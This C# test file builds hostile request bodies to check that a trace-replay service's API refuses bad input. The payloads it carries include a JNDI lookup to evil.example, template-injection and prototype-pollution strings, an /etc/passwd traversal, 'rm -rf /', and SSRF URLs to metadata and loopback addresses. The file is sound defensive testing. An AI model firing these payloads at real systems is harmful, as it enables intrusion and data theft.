using System.Net.Http.Headers;
using System.Text;
using System.Text.Json.Nodes;
using static TraceReplay.Tests.Api.Batches;

namespace TraceReplay.Tests.Hardening;

/// <summary>One hostile request: what it attacks, where it goes, and its body (raw bytes, so invalid JSON and invalid UTF-8 are possible).</summary>
public sealed record HostilePayload(string Category, string Method, string Path, byte[] Body, bool Admin = false, string ContentType = "application/json")
{
    public HttpRequestMessage ToRequest()
    {
        var content = new ByteArrayContent(Body);
        content.Headers.ContentType = new MediaTypeHeaderValue(ContentType);
        return new HttpRequestMessage(new HttpMethod(Method), Path) { Content = content };
    }

    public override string ToString() =>
        $"[{Category}] {Method} {Path} {Encoding.UTF8.GetString(Body)[..Math.Min(Body.Length, 160)]}";
}

/// <summary>
/// Generates malformed and hostile payloads for every write endpoint: invalid JSON, wrong types, huge strings, deep
/// nesting, odd Unicode, duplicate ids, parent cycles, negative tokens, NaN, out-of-range dates, template injection and
/// regular expressions only a backtracking engine runs. Every one must be refused with a 4xx.
/// </summary>
public static class HostileInputCorpus
{
    /// <summary>The ids of objects that exist in the attacked project, so requests reach their validation.</summary>
    public sealed record Targets(string TraceId, string EvaluatorId, string ProjectId);

    public static IReadOnlyList<HostilePayload> Generate(Targets t)
    {
        var endpoints = new (string Method, string Path, bool Admin)[]
        {
            ("POST", "/api/v1/traces", false),
            ("POST", "/api/v1/otel/traces", false),
            ("POST", "/v1/traces", false),
            ("POST", $"/api/v1/traces/{t.TraceId}/replays", false),
            ("POST", "/api/v1/scores", false),
            ("POST", "/api/v1/evaluators", false),
            ("PATCH", $"/api/v1/evaluators/{t.EvaluatorId}", false),
            ("POST", "/api/v1/prompt-templates", false),
            ("POST", "/api/v1/sweeps", false),
            ("POST", "/api/v1/sweeps/estimate", false),
            ("POST", "/api/v1/projects", true),
            ("POST", $"/api/v1/projects/{t.ProjectId}/keys", true),
        };

        var payloads = new List<HostilePayload>();
        foreach (var (method, path, admin) in endpoints)
        {
            foreach (var (category, body) in GenericBodies())
            {
                payloads.Add(new HostilePayload(category, method, path, body, admin));
            }
        }

        payloads.AddRange(Ingestion());
        payloads.AddRange(Replays(t.TraceId));
        payloads.AddRange(Scores(t.TraceId));
        payloads.AddRange(Evaluators(t.EvaluatorId));
        payloads.AddRange(Templates());
        payloads.AddRange(Sweeps(t.TraceId));
        payloads.AddRange(Projects(t.ProjectId));
        return payloads;
    }

    /// <summary>Bodies no endpoint accepts: not JSON, not UTF-8, too deep, unreadable strings, or the wrong kind of root.</summary>
    private static IEnumerable<(string, byte[])> GenericBodies()
    {
        string[] invalidJson =
        [
            "{", "}", "[", "{\"a\":}", "nul", "{'a':1}", "{\"a\":1,}", "{} trailing", "\"unterminated", "{\"a\":\"\\x\"}",
            "{\"a\": NaN}", "{\"a\": Infinity}", "{\"a\": -Infinity}", "NaN", "{\"a\":01}", "{\"a\" 1}", "{\"a\":tru}", "[1,2",
            "{\"a\":[}]}", "\u0000{}", "{\"a\":\"\u0001\"}", "{\"a\":1}{\"b\":2}", "/* comment */ {}",
        ];
        foreach (var text in invalidJson)
        {
            yield return ("invalid JSON", Encoding.UTF8.GetBytes(text));
        }

        foreach (var text in new[] { "[]", "\"text\"", "42", "true", "null", "[{}]", "-1.5e308" })
        {
            yield return ("wrong type", Encoding.UTF8.GetBytes(text));
        }

        yield return ("deep nesting", Encoding.UTF8.GetBytes(new string('[', 100) + new string(']', 100)));
        yield return ("deep nesting", Encoding.UTF8.GetBytes(string.Concat(Enumerable.Repeat("{\"a\":", 200)) + "1" + new string('}', 200)));
        yield return ("deep nesting", Encoding.UTF8.GetBytes("{\"name\":" + new string('[', 70) + new string(']', 70) + "}"));
        yield return ("deep nesting", Encoding.UTF8.GetBytes(new string('[', 20_000)));
        yield return ("odd Unicode", Encoding.UTF8.GetBytes("{\"name\":\"\\ud800\"}"));
        yield return ("odd Unicode", Encoding.UTF8.GetBytes("{\"\\udc00x\":1}"));
        yield return ("odd Unicode", Encoding.UTF8.GetBytes("{\"batch\":[{\"body\":{\"id\":\"\\udfff\\ud800\"}}]}"));
        yield return ("odd Unicode", [0xFF, 0xFE, (byte)'{', (byte)'}']);
        yield return ("odd Unicode", [(byte)'{', (byte)'"', (byte)'a', (byte)'"', (byte)':', (byte)'"', 0xC3, 0x28, (byte)'"', (byte)'}']);
        yield return ("odd Unicode", [(byte)'{', (byte)'"', (byte)'a', (byte)'"', (byte)':', (byte)'"', 0xED, 0xA0, 0x80, (byte)'"', (byte)'}']);
    }

    private static HostilePayload Post(string category, string path, JsonNode body) =>
        new(category, "POST", path, Encoding.UTF8.GetBytes(body.ToJsonString()));

    private static HostilePayload PostRaw(string category, string path, string body) =>
        new(category, "POST", path, Encoding.UTF8.GetBytes(body));

    private static IEnumerable<HostilePayload> Ingestion()
    {
        const string path = "/api/v1/traces";
        HostilePayload Batch(string category, params JsonObject[] events) => Post(category, path, Of(events));
        HostilePayload SpanWith(string category, string field, JsonNode? value)
        {
            var id = NewTraceId();
            var span = Span(id, "s1", "LLM");
            span["body"]![field] = value;
            return Batch(category, TraceCreate(id), span);
        }

        HostilePayload UsageWith(string category, string field, JsonNode? value)
        {
            var id = NewTraceId();
            return Batch(category, TraceCreate(id), Span(id, "s1", "LLM", new JsonObject { ["usage"] = new JsonObject { [field] = value } }));
        }

        HostilePayload TraceWith(string category, string field, JsonNode? value)
        {
            var trace = TraceCreate(NewTraceId());
            trace["body"]![field] = value;
            return Batch(category, trace);
        }

        // Wrong types.
        yield return PostRaw("wrong type", path, "{\"batch\":{}}");
        yield return PostRaw("wrong type", path, "{\"batch\":[]}");
        yield return PostRaw("wrong type", path, "{\"batch\":[1]}");
        yield return PostRaw("wrong type", path, "{\"batch\":[{\"type\":9,\"body\":{}}]}");
        yield return PostRaw("wrong type", path, "{\"batch\":[{\"type\":\"span-create\"}]}");
        yield return PostRaw("wrong type", path, "{\"batch\":[{\"type\":\"trace-create\",\"body\":\"x\"}]}");
        yield return TraceWith("wrong type", "id", 123);
        yield return TraceWith("wrong type", "name", new JsonArray());
        yield return TraceWith("wrong type", "tags", "a,b");
        yield return TraceWith("wrong type", "tags", new JsonArray(1, 2));
        yield return TraceWith("wrong type", "metadata", "x");
        yield return SpanWith("wrong type", "type", 5);
        yield return SpanWith("wrong type", "type", "ROBOT");
        yield return SpanWith("wrong type", "usage", "lots");
        yield return SpanWith("wrong type", "start_time", 12345);
        yield return SpanWith("wrong type", "status", 1);
        yield return SpanWith("wrong type", "status", "MAYBE");
        yield return SpanWith("wrong type", "cost", "1");
        yield return SpanWith("wrong type", "model", new JsonObject());
        yield return SpanWith("wrong type", "parent_span_id", 7);
        yield return SpanWith("wrong type", "model_parameters", new JsonArray());
        yield return SpanWith("wrong type", "trace_id", null);
        yield return SpanWith("wrong type", "prompt_message_index", 1.5);
        yield return UsageWith("wrong type", "prompt_tokens", "10");

        // Huge strings.
        yield return TraceWith("huge string", "id", new string('t', 300));
        yield return TraceWith("huge string", "name", new string('n', 100_000));
        yield return TraceWith("huge string", "tags", new JsonArray(JsonValue.Create(new string('g', 10_000))));
        yield return TraceWith("huge string", "tags", new JsonArray([.. Enumerable.Range(0, 200).Select(i => JsonValue.Create($"tag{i}"))]));
        yield return SpanWith("huge string", "id", new string('s', 1000));
        yield return SpanWith("huge string", "model", new string('m', 10_000));
        yield return SpanWith("huge string", "name", new string('x', 50_000));
        yield return SpanWith("huge string", "parent_span_id", new string('p', 5_000));

        // Odd Unicode in ids and names.
        foreach (var odd in new[] { "a\u0000b", "a\u001Fb", "bell\u0007", "nel\u0085", "tab\there", "line\nbreak", "esc\u001B[31m" })
        {
            yield return TraceWith("odd Unicode", "id", odd);
            yield return SpanWith("odd Unicode", "id", odd);
        }

        yield return TraceWith("odd Unicode", "name", "null\u0000name");
        yield return SpanWith("odd Unicode", "trace_id", "default\u001Fsomeone-elses-trace");

        // Duplicate ids within a batch.
        var dup = NewTraceId();
        yield return Batch("duplicate ids", TraceCreate(dup), Span(dup, "same", "LLM"), Span(dup, "same", "TOOL"));
        var dupTrace = NewTraceId();
        yield return Batch("duplicate ids", TraceCreate(dupTrace, "one"), TraceCreate(dupTrace, "two"));

        // Parent cycles.
        var self = NewTraceId();
        yield return Batch("parent cycle", TraceCreate(self), Span(self, "a", "CHAIN", new JsonObject { ["parent_span_id"] = "a" }));
        var pair = NewTraceId();
        yield return Batch("parent cycle", TraceCreate(pair),
            Span(pair, "a", "CHAIN", new JsonObject { ["parent_span_id"] = "b" }), Span(pair, "b", "CHAIN", new JsonObject { ["parent_span_id"] = "a" }));
        var ring = NewTraceId();
        yield return Batch("parent cycle", TraceCreate(ring),
            Span(ring, "root", "AGENT"),
            Span(ring, "a", "CHAIN", new JsonObject { ["parent_span_id"] = "c" }),
            Span(ring, "b", "CHAIN", new JsonObject { ["parent_span_id"] = "a" }),
            Span(ring, "c", "CHAIN", new JsonObject { ["parent_span_id"] = "b" }));

        // Negative, fractional, out-of-range and not-a-number token counts and costs.
        yield return UsageWith("negative tokens", "prompt_tokens", -1);
        yield return UsageWith("negative tokens", "completion_tokens", -100);
        yield return UsageWith("negative tokens", "input_tokens", -5);
        yield return UsageWith("negative tokens", "output_tokens", -2_000_000_000L);
        yield return SpanWith("negative tokens", "cost", -0.01);
        yield return SpanWith("negative tokens", "prompt_message_index", -1);
        yield return UsageWith("NaN", "prompt_tokens", "NaN");
        yield return UsageWith("NaN", "completion_tokens", 1.5);
        yield return UsageWith("NaN", "prompt_tokens", 1e20);
        yield return SpanWith("NaN", "cost", "NaN");
        yield return SpanWith("NaN", "cost", "Infinity");
        var bigNumber = NewTraceId();
        yield return PostRaw("NaN", path, Of(TraceCreate(bigNumber)).ToJsonString().Replace("]}", $",{{\"type\":\"span-create\",\"body\":{{\"trace_id\":\"{bigNumber}\",\"id\":\"s\",\"name\":\"s\",\"type\":\"LLM\",\"cost\":1e400}}}}]}}"));

        // Out-of-range and impossible dates.
        foreach (var date in new[]
        {
            "0001-01-01T00:00:00Z", "1969-12-31T23:59:59Z", "9999-12-31T23:59:59Z", "2024-13-45T00:00:00Z", "yesterday", "",
            "2024-02-30T00:00:00Z", "+275760-09-13T00:00:00Z", "10000-01-01T00:00:00Z", "2024-01-01T25:61:00Z",
        })
        {
            yield return SpanWith("out-of-range date", "start_time", date);
            var trace = TraceCreate(NewTraceId());
            trace["timestamp"] = date;
            yield return Batch("out-of-range date", trace);
        }

        var reversed = NewTraceId();
        yield return Batch("out-of-range date", TraceCreate(reversed), Span(reversed, "s", "LLM", new JsonObject
        {
            ["start_time"] = "2025-01-02T00:00:00Z", ["end_time"] = "2025-01-01T00:00:00Z",
        }));
    }

    private static IEnumerable<HostilePayload> Replays(string traceId)
    {
        var path = $"/api/v1/traces/{traceId}/replays";
        JsonNode[] bodies =
        [
            new JsonObject { ["model"] = 5 },
            new JsonObject { ["model"] = "" },
            new JsonObject { ["model"] = "gpt\u0000-4o" },
            new JsonObject { ["model"] = new string('m', 10_000) },
            new JsonObject { ["model"] = "{{7*7}}" },
            new JsonObject { ["model"] = "${jndi:ldap://evil.example/x}" },
            new JsonObject { ["promptTemplateVersionId"] = "{{constructor.constructor('return process')()}}" },
            new JsonObject { ["promptTemplateVersionId"] = "../../../etc/passwd" },
            new JsonObject { ["promptTemplateVersionId"] = "ptv_\u0000" },
            new JsonObject { ["promptTemplateVersionId"] = 7 },
            new JsonObject { ["modelParameters"] = new JsonArray() },
            new JsonObject { ["modelParameters"] = "hot" },
            new JsonObject { ["mode"] = 1 },
            new JsonObject { ["mode"] = "sideways" },
            new JsonObject { ["toolMatching"] = "loose" },
            new JsonObject { ["evil"] = true },
            new JsonObject { ["__proto__"] = new JsonObject { ["admin"] = true } },
        ];
        return bodies.Select(b => Post("wrong type", path, b));
    }

    private static IEnumerable<HostilePayload> Scores(string traceId)
    {
        const string path = "/api/v1/scores";
        JsonObject Score(string field, JsonNode? value)
        {
            var body = new JsonObject { ["traceId"] = traceId, ["evaluatorName"] = "hostile", ["value"] = 0.5 };
            body[field] = value;
            return body;
        }

        yield return Post("wrong type", path, Score("traceId", 1));
        yield return Post("wrong type", path, Score("traceId", ""));
        yield return Post("huge string", path, Score("traceId", new string('t', 300)));
        yield return Post("odd Unicode", path, Score("traceId", traceId + "\u0000"));
        yield return Post("odd Unicode", path, Score("traceId", "default\u001F" + traceId));
        yield return Post("wrong type", path, Score("value", "0.5"));
        yield return Post("wrong type", path, Score("value", 1.5));
        yield return Post("negative tokens", path, Score("value", -0.1));
        yield return Post("NaN", path, Score("value", "NaN"));
        yield return PostRaw("NaN", path, Score("value", 0.5).ToJsonString().Replace("0.5", "1e400"));
        yield return Post("huge string", path, Score("evaluatorName", new string('e', 10_000)));
        yield return Post("odd Unicode", path, Score("evaluatorName", "bell\u0007"));
        yield return Post("wrong type", path, Score("label", 5));
        yield return Post("huge string", path, Score("label", new string('l', 5_000)));
        yield return Post("huge string", path, Score("reasoning", new string('r', 100_000)));
        yield return Post("wrong type", path, Score("extra", "field"));
        yield return Post("duplicate ids", path, Score("spanId", "no-such-span"));
        yield return Post("duplicate ids", path, Score("traceId", "no-such-trace-" + Guid.NewGuid().ToString("N")));
    }

    private static IEnumerable<HostilePayload> Evaluators(string evaluatorId)
    {
        const string path = "/api/v1/evaluators";
        JsonObject Evaluator(string type, JsonNode? config, string? name = null) =>
            new() { ["name"] = name ?? "hostile-" + Guid.NewGuid().ToString("N"), ["type"] = type, ["config"] = config };

        yield return Post("wrong type", path, new JsonObject { ["name"] = 1, ["type"] = "CONTAINS" });
        yield return Post("wrong type", path, new JsonObject { ["name"] = "", ["type"] = "CONTAINS", ["config"] = new JsonObject { ["value"] = "x" } });
        yield return Post("wrong type", path, new JsonObject { ["name"] = "x", ["type"] = 1 });
        yield return Post("wrong type", path, new JsonObject { ["name"] = "x", ["type"] = "NOPE" });
        yield return Post("template injection", path, new JsonObject { ["name"] = "x", ["type"] = "{{7*7}}" });
        yield return Post("wrong type", path, Evaluator("CONTAINS", new JsonArray()));
        yield return Post("wrong type", path, Evaluator("CONTAINS", "x"));
        yield return Post("wrong type", path, new JsonObject { ["name"] = "x", ["type"] = "CONTAINS", ["enabled"] = "yes" });
        yield return Post("wrong type", path, new JsonObject { ["name"] = "x", ["type"] = "CONTAINS", ["script"] = "rm -rf /" });
        yield return Post("huge string", path, Evaluator("CONTAINS", new JsonObject { ["value"] = "x" }, new string('n', 10_000)));
        yield return Post("odd Unicode", path, Evaluator("CONTAINS", new JsonObject { ["value"] = "x" }, "evil\u0000name"));
        yield return Post("deep nesting", path, Evaluator("CONTAINS", JsonNode.Parse(string.Concat(Enumerable.Repeat("{\"a\":", 63)) + "1" + new string('}', 63))));

        // Patterns run in linear time (RegexOptions.NonBacktracking), so nested quantifiers are accepted; what that
        // engine cannot run (backreferences, lookarounds, atomic groups, conditionals) is refused when saved.
        foreach (var pattern in new[]
        {
            "(a)\\1", "(a+)\\1$", "(?<x>a)\\k<x>", "(?=a)a", "(?!a)b", "(?<=a)b", "(?<!a)b", "(?>a+)b", "(?>(a+)+)$",
            "(a)(?(1)b|c)", "^(?=(a+)+$)", "(?<=(a+)+)b", "\\G(a+)+",
        })
        {
            yield return Post("backtracking-only regex", path, Evaluator("REGEX", new JsonObject { ["pattern"] = pattern }));
            yield return new HostilePayload("backtracking-only regex", "PATCH", $"{path}/{evaluatorId}",
                Encoding.UTF8.GetBytes(new JsonObject { ["config"] = new JsonObject { ["pattern"] = pattern } }.ToJsonString()));
        }

        foreach (var pattern in new[] { "(", "[a-", "*a", "(?<x", "a{2,1}" })
        {
            yield return Post("wrong type", path, Evaluator("REGEX", new JsonObject { ["pattern"] = pattern }));
        }

        yield return Post("wrong type", path, Evaluator("REGEX", new JsonObject { ["pattern"] = "ok", ["flags"] = "z" }));
        yield return Post("huge string", path, Evaluator("REGEX", new JsonObject { ["pattern"] = new string('a', 5_000) }));

        foreach (var url in new[]
        {
            "http://127.0.0.1:22/", "https://169.254.169.254/latest/meta-data/", "https://10.0.0.1/", "https://[::1]/", "https://localhost/",
            "file:///etc/passwd", "ftp://example.com/", "javascript:alert(1)", "gopher://127.0.0.1:25/", "https://192.168.0.1/",
        })
        {
            yield return Post("server-side request forgery", path, Evaluator("WEBHOOK", new JsonObject { ["url"] = url }));
        }

        // Patches of the existing evaluator.
        var patch = $"{path}/{evaluatorId}";
        foreach (var body in new JsonNode[]
        {
            new JsonObject { ["name"] = 5 }, new JsonObject { ["config"] = new JsonArray() }, new JsonObject { ["enabled"] = "no" },
            new JsonObject { ["type"] = "CONTAINS" }, new JsonObject { ["unknown"] = 1 }, new JsonObject { ["name"] = "bad\u0000" },
            new JsonObject { ["name"] = new string('n', 1000) }, new JsonObject { ["config"] = new JsonObject { ["pattern"] = "(" } },
        })
        {
            yield return new HostilePayload("wrong type", "PATCH", patch, Encoding.UTF8.GetBytes(body.ToJsonString()));
        }
    }

    private static IEnumerable<HostilePayload> Templates()
    {
        const string path = "/api/v1/prompt-templates";
        JsonObject Template(string? content, JsonNode? name = null) =>
            new() { ["name"] = name ?? "hostile-" + Guid.NewGuid().ToString("N"), ["content"] = content };

        yield return Post("wrong type", path, new JsonObject { ["name"] = 1, ["content"] = "x" });
        yield return Post("wrong type", path, new JsonObject { ["name"] = "x", ["content"] = 1 });
        yield return Post("wrong type", path, new JsonObject { ["name"] = "x" });
        yield return Post("wrong type", path, Template("x", ""));
        yield return Post("wrong type", path, new JsonObject { ["name"] = "x", ["content"] = "x", ["variables"] = "a" });
        yield return Post("wrong type", path, new JsonObject { ["name"] = "x", ["content"] = "x", ["variables"] = new JsonArray(1) });
        yield return Post("huge string", path, Template("x", new string('n', 300)));
        yield return Post("huge string", path, Template(new string('c', 150_000)));
        yield return Post("odd Unicode", path, Template("x", "name\u0000"));
        yield return Post("odd Unicode", path, Template("x", " padded "));

        foreach (var content in new[]
        {
            "{{7*7}}", "{{constructor.constructor('return process')()}}", "{{> partial}}", "{{#a}}unclosed", "{{/a}}", "{{{a}}",
            "Hello {{ }}", "{{__proto__[x]}}", "{{#each items}}{{this}}{{/each}}", "{{a}} {{b c}}", "{{#a}}{{/b}}",
            "{{ system('id') }}", "{{../../etc/passwd}}", "{{a;drop table}}", "{{&}}", "{{^}}{{/}}",
        })
        {
            yield return Post("template injection", path, Template(content));
        }
    }

    private static IEnumerable<HostilePayload> Sweeps(string traceId)
    {
        JsonObject Sweep(string field, JsonNode? value)
        {
            var body = new JsonObject
            {
                ["filter"] = new JsonObject { ["traceIds"] = new JsonArray(traceId) },
                ["overrides"] = new JsonObject { ["model"] = "gpt-4o-mini" },
            };
            body[field] = value;
            return body;
        }

        JsonObject Filter(JsonNode filter) => Sweep("filter", filter);

        var bodies = new (string Category, JsonNode Body)[]
        {
            ("wrong type", Sweep("filter", null)),
            ("wrong type", Filter(new JsonArray())),
            ("wrong type", Filter(new JsonObject { ["traceIds"] = new JsonArray() })),
            ("wrong type", Filter(new JsonObject { ["traceIds"] = new JsonArray(1) })),
            ("odd Unicode", Filter(new JsonObject { ["traceIds"] = new JsonArray("\u0000") })),
            ("odd Unicode", Filter(new JsonObject { ["traceIds"] = new JsonArray("default\u001F" + traceId) })),
            ("huge string", Filter(new JsonObject { ["traceIds"] = new JsonArray([.. Enumerable.Range(0, 1001).Select(i => JsonValue.Create($"t{i}"))]) })),
            ("huge string", Filter(new JsonObject { ["traceIds"] = new JsonArray(new string('t', 300)) })),
            ("negative tokens", Filter(new JsonObject { ["limit"] = -1 })),
            ("NaN", Filter(new JsonObject { ["limit"] = 1e9 })),
            ("out-of-range date", Filter(new JsonObject { ["startDate"] = "0000-00-00" })),
            ("out-of-range date", Filter(new JsonObject { ["endDate"] = "not a date" })),
            ("wrong type", Filter(new JsonObject { ["status"] = "MAYBE" })),
            ("wrong type", Filter(new JsonObject { ["unknown"] = 1 })),
            ("wrong type", Sweep("overrides", new JsonArray())),
            ("wrong type", Sweep("overrides", new JsonObject { ["model"] = 5 })),
            ("wrong type", Sweep("overrides", new JsonObject { ["model"] = "not-served-anywhere" })),
            ("template injection", Sweep("overrides", new JsonObject { ["model"] = "{{7*7}}" })),
            ("negative tokens", Sweep("maxInFlight", 0)),
            ("negative tokens", Sweep("maxInFlight", -1)),
            ("NaN", Sweep("maxInFlight", 1.5)),
            ("negative tokens", Sweep("budgetUsd", -1)),
            ("NaN", Sweep("budgetUsd", "NaN")),
            ("NaN", Sweep("regressionThreshold", 2)),
            ("NaN", Sweep("regressionThreshold", "NaN")),
            ("wrong type", Sweep("name", 5)),
            ("huge string", Sweep("name", new string('n', 10_000))),
            ("odd Unicode", Sweep("name", "sweep\u0007")),
            ("odd Unicode", Sweep("baselineSweepId", "swp_\u0000")),
            ("wrong type", Sweep("baselineSweepId", "swp_missing")),
            ("wrong type", Sweep("mode", "sideways")),
            ("wrong type", Sweep("unknown", true)),
        };
        foreach (var path in new[] { "/api/v1/sweeps", "/api/v1/sweeps/estimate" })
        {
            foreach (var (category, body) in bodies)
            {
                if (path.EndsWith("estimate", StringComparison.Ordinal) && body["baselineSweepId"] is not null && category == "wrong type")
                {
                    continue; // An estimate does not look the baseline up.
                }

                yield return Post(category, path, body);
            }

            yield return PostRaw("NaN", path, Sweep("budgetUsd", 1).ToJsonString().Replace("\"budgetUsd\":1", "\"budgetUsd\":1e400"));
            yield return PostRaw("NaN", path, Sweep("regressionThreshold", 0.5).ToJsonString().Replace("0.5", "1e400"));
        }
    }

    private static IEnumerable<HostilePayload> Projects(string projectId)
    {
        foreach (var body in new JsonNode[]
        {
            new JsonObject { ["name"] = 1 }, new JsonObject { ["name"] = "" }, new JsonObject { ["name"] = new string('p', 300) },
            new JsonObject { ["name"] = "p\u0000" }, new JsonObject { ["name"] = "ok", ["owner"] = "me" }, new JsonObject(),
        })
        {
            yield return Post("wrong type", "/api/v1/projects", body) with { Admin = true };
        }

        foreach (var body in new JsonNode[] { new JsonObject { ["name"] = 1 }, new JsonObject { ["scope"] = "admin" }, new JsonObject { ["name"] = "k\u0007" } })
        {
            yield return Post("wrong type", $"/api/v1/projects/{projectId}/keys", body) with { Admin = true };
        }

        yield return Post("wrong type", "/api/v1/projects/prj_missing/keys", new JsonObject { ["name"] = "k" }) with { Admin = true };
    }
}
